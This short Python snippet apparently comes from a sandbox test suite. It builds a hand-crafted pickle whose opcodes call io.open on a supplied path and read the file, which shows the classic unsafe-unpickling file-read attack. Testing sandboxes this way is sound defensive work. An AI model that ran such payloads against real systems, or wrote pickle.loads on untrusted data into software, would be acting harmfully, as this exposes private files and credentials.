# Tries: a pickle whose opcodes name and call functions, read in the guest.
# Origin: every unpickling bug; CVE-2025-14931's kind.

import pickle

path = input["file"].encode()
data = b"cio\nopen\n(V" + path + b"\ntR."
pickle.loads(data).read()
